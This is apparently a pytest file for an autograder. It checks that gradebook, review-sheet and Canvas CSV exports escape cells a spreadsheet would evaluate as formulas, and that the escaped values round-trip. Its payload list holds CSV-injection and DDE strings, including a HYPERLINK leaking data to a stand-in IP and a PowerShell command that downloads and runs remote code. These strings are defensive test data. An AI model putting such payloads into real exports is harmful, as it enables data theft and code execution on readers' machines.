"""Issue 16, point 7: no CSV the grader writes holds a cell a spreadsheet would evaluate (OWASP's CSV injection rule:
cells starting with =, +, -, @, tab or carriage return), and the TA's review sheet still round-trips."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest

from autograder.discover import discover
from autograder.reports import canvas, review, written_answers
from autograder.reports.gradebook import write_gradebook_csv
from autograder.reports.writing import csv_text, csv_unescape
from autograder.scoring import load_rubric
from tests.reports.test_review import filled, text

ROOT = Path(__file__).resolve().parents[2]
# the classic payloads (OWASP CSV injection, DDE)
PAYLOADS = ["=1+1", "=HYPERLINK(\"http://203.0.113.9/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "=", "'=1+1",
            "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0", "-good point", "@here"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def rubric():
    return load_rubric(ROOT / "autograder" / "rubric.yaml")


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def assert_no_formula(path: Path) -> None:
    for cell in cells(path):
        if cell[:1] in FORMULA_STARTS:
            float(cell.replace(",", "."))      # only plain numbers may start so (e.g. a negative score)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_guarded_and_comes_back_exactly(payload):
    guarded = csv_text(payload)
    assert guarded[:1] not in FORMULA_STARTS
    assert csv_unescape(guarded) == payload


def test_numbers_stay_numbers():
    for number in ("-1.5", "0", "12", "-0.25", "2,5"):
        assert csv_text(number) == number


def test_review_sheet_escapes_answers_and_comments_and_round_trips(tmp_path, rubric):
    questions = written_answers.load_questions(rubric)
    ids = list(rubric.manual_ids)
    answers = dict(zip(ids, PAYLOADS))
    notebook = filled(answers, rubric)
    students = [("amy", "Amy", written_answers.extract_answers(text(notebook), questions))]
    review.write_review_sheet(tmp_path, rubric, students, questions)
    sheet = tmp_path / "review" / "written_answers.csv"
    assert_no_formula(sheet)

    # the TA scores every answer and writes a comment that starts like a formula, then saves (the raw cells of the
    # answers stay as the grader wrote them)
    with sheet.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["score"], row["comment"] = "2", "-1 for the sign; =see the notes"
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=review.COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    loaded = review.load_scores(tmp_path, rubric)
    assert not loaded.problems
    assert {key: (value.score, value.comment) for key, value in loaded.scores.items()} == {
        ("amy", item): (2.0, "-1 for the sign; =see the notes") for item in ids}

    # the next batch rewrites the sheet: scores and comments kept, answers not seen as changed, still no formula
    review.write_review_sheet(tmp_path, rubric, students, questions)
    assert_no_formula(sheet)
    again = review.load_scores(tmp_path, rubric)
    assert {key: (value.score, value.comment) for key, value in again.scores.items()} == {
        ("amy", item): (2.0, "-1 for the sign; =see the notes") for item in ids}
    html = (tmp_path / "review" / "written_answers.html").read_text()
    assert "the answer changed since it was scored" not in html and "amy / " not in html


def test_gradebook_and_canvas_import_hold_no_formula(tmp_path, rubric):
    folder = tmp_path / "submissions"
    folder.mkdir()
    for payload in ("=1+1", "+cmd", "-2+3", "@SUM(1)"):
        (folder / f"Assignment1 {payload}.ipynb").write_text("{}")
    submissions = discover(folder)
    rows = [{"submission": s.submission_id, "display_name": s.display_name, "status": "ok", "score": 1.0,
             "max_score": 200.0, "items": {}} for s in submissions]
    write_gradebook_csv(tmp_path / "gradebook.csv", rows, rubric)
    assert_no_formula(tmp_path / "gradebook.csv")
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n=HYPERLINK(\"x\"),1,@a,-b,+c\n", encoding="utf-8")
    canvas.write_canvas_gradebook(tmp_path / "canvas.csv", rows, submissions, rubric, assignment="=Lab 3",
                                  roster=roster)
    assert_no_formula(tmp_path / "canvas.csv")
    assert "'=1+1" in cells(tmp_path / "canvas.csv")             # the student's name, shown as text
